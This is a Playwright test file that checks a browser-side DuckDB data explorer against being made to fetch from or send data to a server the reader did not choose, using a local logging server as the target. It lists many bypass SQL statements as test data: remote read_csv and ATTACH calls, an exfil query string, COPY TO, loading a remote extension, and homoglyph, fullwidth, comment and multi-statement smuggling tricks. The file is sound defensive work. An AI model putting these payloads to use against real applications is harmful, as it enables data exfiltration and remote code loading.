import { createServer, type Server } from 'node:http';
import { existsSync, readFileSync } from 'node:fs';
import { join, normalize } from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect, DATA_ORIGIN, visit } from './fixtures';

/**
 * Nothing a link or the SQL console holds can make the reader's browser fetch from a server the
 * reader did not choose (issue 14). A real second HTTP server on 127.0.0.1 logs every request it
 * receives and answers with permissive CORS, so a request that was made WOULD succeed and be seen;
 * the page's routes let requests to it through. Every bypass must leave its log empty and show a
 * clear message. The table functions are listed from DuckDB itself at test time, so a new DuckDB
 * cannot add one silently.
 */
const FIXTURES = join(import.meta.dirname, '..', 'fixtures');
let server: Server;
let second = '';
const hits: string[] = [];

test.beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const headers = {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': '*',
      'access-control-expose-headers': '*',
    };
    if (req.method === 'OPTIONS') return res.writeHead(204, headers).end();
    // Serves test/fixtures (the trust-prompt tests open tiny/ from here), else a small CSV.
    const path = normalize(decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
    const file = join(FIXTURES, path);
    if (file.startsWith(FIXTURES) && existsSync(file) && !file.endsWith('/')) {
      const body = readFileSync(file);
      res.writeHead(200, {
        ...headers,
        'content-type': file.endsWith('.json') ? 'application/json' : 'application/octet-stream',
        'content-length': String(body.length),
      });
      return res.end(req.method === 'HEAD' ? undefined : body);
    }
    res.writeHead(200, { ...headers, 'content-type': 'text/plain' }).end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  second = `http://127.0.0.1:${address.port}`;
});

test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

test.beforeEach(async ({ page }) => {
  hits.length = 0;
  // Registered after the fixture's block-everything route, so it wins: requests really arrive.
  await page.context().route(`${second}/**`, (route) => route.continue());
});

const TINY = `data=${encodeURIComponent(`${DATA_ORIGIN}/tiny/`)}`;

/** Runs a statement through the console as a reader would; returns what the console says. */
async function runInConsole(page: Page, sql: string): Promise<{ kind: string; text: string }> {
  await page.getByTestId('sql-input').fill(sql);
  await page.getByTestId('sql-run').click();
  await expect(page.getByTestId('sql-run')).toBeEnabled();
  const error = page.getByTestId('sql-error');
  if (await error.isVisible())
    return { kind: (await error.getAttribute('data-kind')) ?? '', text: (await error.innerText()).trim() };
  return { kind: 'result', text: (await page.getByTestId('sql-status').innerText()).trim() };
}

type Hook = {
  __moltscope: {
    query(sql: string): Promise<{ rows: unknown[][] }>;
    consoleRun(sql: string): Promise<{ kind: string; text: string }>;
  };
};

/**
 * Runs statements through the console's own runner inside the page, in one round trip (the same
 * check, connection and classification as the Run button, without the typing and clicking).
 */
function runAllInConsoleRunner(page: Page, sqls: string[]): Promise<{ kind: string; text: string }[]> {
  return page.evaluate(async (list) => {
    const out: { kind: string; text: string }[] = [];
    for (const s of list) out.push(await (globalThis as unknown as Hook).__moltscope.consoleRun(s));
    return out;
  }, sqls);
}
/** A statement on the views' own connection, past the console's checks: only the engine guards. */
function engineQuery(page: Page, sql: string): Promise<unknown[][] | string> {
  return page.evaluate(async (s) => {
    try {
      return (await (globalThis as unknown as Hook).__moltscope.query(s)).rows;
    } catch (e) {
      return String((e as { message?: string }).message ?? e);
    }
  }, sql);
}

test('the second server logs what reaches it (control)', async ({ page }) => {
  // The page's own fetches are held by its security policy, so the control is a navigation; that
  // the engine worker's requests arrive too is shown by the trust prompt's Open test below.
  await page.goto(`${second}/control.csv`);
  expect(hits).toEqual(['GET /control.csv']);
});

test('the engine is locked: no file, URL or extension, and no statement can unlock it', async ({
  app: page,
}) => {
  await visit(page, `./?view=overview&${TINY}`);
  await expect(page.getByTestId('dataset-card')).toBeVisible({ timeout: 45_000 });
  expect(
    await engineQuery(
      page,
      "SELECT current_setting('enable_external_access'), current_setting('autoload_known_extensions'), " +
        "current_setting('autoinstall_known_extensions'), current_setting('lock_configuration')",
    ),
  ).toEqual([[false, false, false, true]]);
  for (const sql of [
    'SET enable_external_access = true',
    'RESET enable_external_access',
    'SET lock_configuration = false',
    'RESET lock_configuration',
    'SET autoload_known_extensions = true',
  ])
    expect(await engineQuery(page, sql), sql).toMatch(/configuration has been locked/);
  for (const sql of [
    `SELECT * FROM read_csv('${second}/engine.csv')`,
    `SELECT * FROM "${second}/engine2.csv"`,
    `SELECT * FROM read_text('${second}/engine3.txt')`,
    `SELECT * FROM glob('/*')`,
    `ATTACH '${second}/x.db' AS x`,
    `COPY (SELECT 1) TO '${second}/out.csv'`,
    'LOAD json',
  ])
    expect(await engineQuery(page, sql), sql).toMatch(/Permission Error/);
  expect(await engineQuery(page, "SELECT current_setting('enable_external_access')")).toEqual([[false]]);
  expect(hits).toEqual([]);
});

test('no console statement reaches another server, each says why', async ({ app: page }) => {
  test.setTimeout(300_000);
  await visit(page, `./?view=explore&${TINY}`);
  await expect(page.getByTestId('sql-console')).toBeVisible({ timeout: 45_000 });
  const listed = await engineQuery(
    page,
    "SELECT DISTINCT function_name FROM duckdb_functions() WHERE function_type IN ('table', 'table_macro') ORDER BY 1",
  );
  if (typeof listed === 'string') throw new Error(listed);
  const fns = listed.map((r) => String(r[0]));
  // The ones the issue names are among them, so the list is DuckDB's and not empty.
  for (const f of ['read_csv', 'read_text', 'read_blob', 'glob', 'query', 'sniff_csv'])
    expect(fns).toContain(f);

  const url = (tag: string) => `'${second}/${encodeURIComponent(tag)}.csv'`;
  const lookalike = (f: string) => f.replace(/[aeo]/, (c) => ({ a: '\u0430', e: '\u0435', o: '\u043e' })[c]!);
  const unicodeEscaped = (f: string) =>
    [...f].map((c) => `\\${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const mixed = (f: string) => [...f].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('');
  const cases: string[] = [];
  for (const f of fns) {
    cases.push(
      `SELECT * FROM ${f}(${url(`${f}-plain`)})`,
      `SELECT * FROM "${f}"(${url(`${f}-quoted`)})`,
      `SELECT * FROM "${f.toUpperCase()}"(${url(`${f}-upper`)})`,
      `SeLeCt * FrOm ${mixed(f)}(${url(`${f}-mixed`)})`,
      `SELECT * FROM main./*x*/"${f}" /* y */ (${url(`${f}-comment`)})`,
      `SELECT * FROM ${f}\n--(\n(${url(`${f}-line-comment`)} || '?x=' || 'abc')`,
      `SELECT * FROM U&"${unicodeEscaped(f)}"(${url(`${f}-uescape`)})`,
      `SELECT * FROM ${lookalike(f)}(${url(`${f}-lookalike`)})`,
      `SELECT * FROM "${lookalike(f)}"(${url(`${f}-lookalike-quoted`)})`,
    );
  }
  // Must fail (refused, or stopped by the engine): the bypasses of the issue and their kin.
  const mustFail = [
    `SELECT * FROM "read_csv"(${url('issue-read_csv')})`,
    `SELECT * FROM "read_text"(${url('issue-read_text')})`,
    `SELECT * FROM "READ_BLOB"(${url('issue-read_blob')})`,
    `SELECT * FROM "glob"('/*')`,
    `SELECT * FROM "${second}/issue-bare.csv"`,
    `SELECT * FROM "read_csv"('${second}/exfil?x=' || 'abc')`,
    `SELECT * FROM '${second}/string-table.csv'`,
    `FROM '${second}/from-first.csv'`,
    `SELECT * FROM posts, '${second}/comma.csv'`,
    `SELECT * FROM posts JOIN "${second}/join.csv" ON true`,
    `DESCRIBE '${second}/describe.csv'`,
    `SUMMARIZE "${second}/summarize.csv"`,
    `WITH x AS (SELECT * FROM "read_csv"(${url('cte')})) SELECT * FROM x`,
    `SELECT (SELECT count(*) FROM "read_text"(${url('subquery')}))`,
    `EXPLAIN SELECT * FROM "read_csv"(${url('explain')})`,
    `DESCRIBE SELECT * FROM "read_csv"(${url('describe-select')})`,
    `SELECT * FROM query('SELECT * FROM read_csv(${url('query').replaceAll("'", "''")})')`,
    `SELECT * FROM "query_table"('${second}/query_table.csv')`,
    `PRAGMA table_info('${second}/pragma.csv')`,
    'SET enable_external_access = true',
    'set ENABLE_EXTERNAL_ACCESS=1',
    'RESET enable_external_access',
    'RESET lock_configuration',
    'PRAGMA enable_profiling',
    'PRAGMA threads = 1',
    'CALL pragma_version()',
    `CALL read_csv(${url('call')})`,
    `ATTACH '${second}/attach.db' AS x`,
    `COPY (SELECT 1) TO '${second}/copy.csv'`,
    `COPY posts FROM '${second}/copy-from.csv'`,
    `EXPORT DATABASE '${second}/export'`,
    'INSTALL httpfs',
    `INSTALL httpfs FROM '${second}/repo'`,
    'LOAD httpfs',
    `LOAD '${second}/evil.duckdb_extension'`,
    `SELECT 1; SELECT * FROM read_csv(${url('second-statement')})`,
    `SELECT * FROM "read_csv"  (${url('spaced')})`,
    `SELECT * FROM read_csv\u00a0(${url('nbsp')})`,
    `SELECT * FROM ｒｅａｄ_csv(${url('fullwidth')})`,
    `SELECT E'\\'' , read_csv(${url('escape-string')}) -- '`,
  ];
  const said: { sql: string; kind: string; text: string }[] = [];
  // The issue's bypasses as a reader types them; every form of every table function through the
  // console's runner in the page.
  for (const sql of mustFail) said.push({ sql, ...(await runInConsole(page, sql)) });
  const answers = await runAllInConsoleRunner(page, cases);
  cases.forEach((sql, i) => said.push({ sql, ...answers[i] }));
  for (const s of said) expect(s.text, s.sql).not.toBe('');
  for (const s of said.slice(0, mustFail.length)) expect(['refused', 'engine'], s.sql).toContain(s.kind);
  // Every form of a function that reads files or runs SQL is stopped, not answered.
  const reading = /^(read_\w+|glob|sniff_csv|query|query_table)$/;
  for (const s of said.slice(mustFail.length)) {
    const f = fns.find((name) => s.sql.includes(`/${encodeURIComponent(name)}-`));
    if (f && reading.test(f)) expect(['refused', 'engine'], s.sql).toContain(s.kind);
  }
  expect(hits).toEqual([]);
  console.log(
    `security: ${said.length} statements (${fns.length} table functions), ` +
      `${said.filter((s) => s.kind === 'refused').length} refused by the console, ` +
      `${said.filter((s) => s.kind === 'engine').length} stopped by the engine, ` +
      `${said.filter((s) => s.kind === 'result').length} harmless results; 0 requests`,
  );
  // The console still answers ordinary queries afterwards.
  expect(await runInConsole(page, 'SELECT count(*) AS n FROM posts')).toMatchObject({ kind: 'result' });
});

test('a permalink with a query shows it and runs nothing until Run', async ({ page }) => {
  const sql = `SELECT * FROM "read_csv"('${second}/permalink.csv?x=' || 'abc')`;
  await page.goto(`./?view=explore&${TINY}&ex_q=${encodeURIComponent(sql)}`);
  await expect(page.getByTestId('sql-console')).toBeVisible({ timeout: 45_000 });
  await expect(page.getByTestId('sql-input')).toHaveValue(sql);
  await expect(page.getByTestId('sql-from-link')).toHaveText(
    'This query came with the link. Read it, then press Run.',
  );
  // Time for an auto-run to have happened, had there been one.
  await page.waitForTimeout(1500);
  await expect(page.getByTestId('sql-error')).toHaveCount(0);
  await expect(page.getByTestId('sql-status')).toHaveCount(0);
  expect(hits).toEqual([]);
  await page.getByTestId('sql-run').click();
  await expect(page.getByTestId('sql-error')).toContainText(/reads files or runs other SQL/);
  await expect(page.getByTestId('sql-from-link')).toHaveCount(0);
  expect(hits).toEqual([]);
});

test.describe('data on another origin', () => {
  test.use({ trustDataOrigin: false });

  test('asks first; Cancel fetches nothing, Open fetches, and the origin is then remembered', async ({
    page,
  }) => {
    test.setTimeout(120_000);
    const link = `./?view=overview&data=${encodeURIComponent(`${second}/tiny/`)}`;
    await page.goto(link);
    const prompt = page.getByTestId('trust-prompt');
    await expect(prompt).toBeVisible({ timeout: 30_000 });
    await expect(page.getByTestId('trust-origin')).toHaveText(second);
    await expect(page.getByTestId('trust-url')).toHaveText(`${second}/tiny/`);
    await page.waitForTimeout(1000);
    expect(hits).toEqual([]);

    await page.getByTestId('trust-cancel').click();
    await expect(prompt).toHaveCount(0);
    await expect(page.getByTestId('notices')).toContainText(`Did not open the data from ${second}`);
    // The site's own default dataset opens instead; nothing came from the other origin.
    await expect(page.getByTestId('dataset-card')).toBeVisible({ timeout: 60_000 });
    expect(new URL(page.url()).searchParams.get('data')).toBeNull();
    expect(hits).toEqual([]);

    await page.goto(link);
    await expect(prompt).toBeVisible({ timeout: 30_000 });
    expect(hits).toEqual([]);
    await page.getByTestId('trust-open').click();
    await expect(page.getByTestId('dataset-card')).toBeVisible({ timeout: 60_000 });
    await expect(page.getByTestId('total-posts')).toContainText('6');
    expect(hits).toContain('GET /tiny/manifest.json');

    // Remembered: the same origin opens directly next time, without a question.
    hits.length = 0;
    await page.goto(link);
    await expect(page.getByTestId('dataset-card')).toBeVisible({ timeout: 60_000 });
    await expect(prompt).toHaveCount(0);
    expect(hits).toContain('GET /tiny/manifest.json');
  });

  test("the site's own origin opens without a question", async ({ page, baseURL }) => {
    const own = new URL('data/', baseURL).href;
    const catalog = JSON.parse(
      readFileSync(join(import.meta.dirname, '../../public/data/index.json'), 'utf8'),
    );
    await page.goto(`./?view=overview&data=${encodeURIComponent(own + String(catalog[0].path))}`);
    await expect(page.getByTestId('dataset-card')).toBeVisible({ timeout: 60_000 });
    await expect(page.getByTestId('trust-prompt')).toHaveCount(0);
  });
});
